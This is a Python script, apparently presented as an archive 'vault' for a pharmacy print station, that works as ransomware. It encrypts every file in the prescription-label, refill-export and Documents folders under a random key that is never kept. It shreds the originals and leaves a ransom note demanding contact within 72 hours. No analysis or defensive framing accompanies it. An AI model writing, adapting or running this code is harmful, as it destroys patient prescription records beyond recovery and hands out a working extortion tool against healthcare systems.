#!/usr/bin/env python3
"""Label archive vault.

Locks the printed-label archive and refill exports on a print station:
every file under the target folders is encrypted in place with a one-time
key and the plaintext is destroyed. Restoration instructions are left in
each folder.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("vault")

LOCK_SUFFIX = ".rxlock"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"
NOTE_TEXT = """All prescription label archives and refill exports on this station
have been encrypted. To receive the restore key, write to
restore@recovery.example.org with the station id {station} within 72 hours.
Files that are renamed or modified cannot be recovered.
"""

SKIP_SUFFIXES = {LOCK_SUFFIX, ".so", ".pyc"}

LOCK_SCRIPT = r'''#!/bin/bash
# reads file list on stdin, key in VAULT_KEY
while IFS= read -r f; do
    [ -f "$f" ] || continue
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:VAULT_KEY \
            -in "$f" -out "$f.rxlock" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        echo "locked $f"
    else
        echo "failed $f" >&2
    fi
done
'''


def walk_targets(roots, max_size):
    for root in roots:
        root = Path(root).expanduser()
        if not root.is_dir():
            LOG.debug("skip missing root %s", root)
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix in SKIP_SUFFIXES or name == NOTE_NAME:
                    continue
                try:
                    if p.stat().st_size > max_size:
                        continue
                except OSError:
                    continue
                yield p


def drop_notes(dirs, station):
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE_TEXT.format(station=station))
        except OSError as exc:
            LOG.debug("note failed in %s: %s", d, exc)


def lock_files(paths):
    fd, script = tempfile.mkstemp(prefix="vault-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(LOCK_SCRIPT)
    os.chmod(script, 0o700)
    env = dict(os.environ, VAULT_KEY=secrets.token_hex(32))
    listing = "\n".join(str(p) for p in paths) + "\n"
    try:
        proc = subprocess.run(["bash", script], input=listing, env=env,
                              capture_output=True, text=True)
    finally:
        os.unlink(script)
        env.pop("VAULT_KEY", None)
    locked = [l for l in proc.stdout.splitlines() if l.startswith("locked ")]
    LOG.info("locked %d files", len(locked))
    if proc.stderr:
        LOG.debug("errors:\n%s", proc.stderr)
    return len(locked)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=["~/label_archive", "~/refill_exports", "~/Documents"])
    ap.add_argument("--max-size", type=int, default=200 * 1024 * 1024)
    ap.add_argument("--station", default=os.environ.get("RX_STATION_ID", "unknown"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    targets = list(walk_targets(args.roots, args.max_size))
    if not targets:
        LOG.info("nothing to lock")
        return 0
    LOG.info("%d files to lock", len(targets))
    count = lock_files(targets)
    drop_notes({p.parent for p in targets}, args.station)
    LOG.info("vault complete: %d of %d files", count, len(targets))
    return 0 if count else 1


if __name__ == "__main__":
    sys.exit(main())
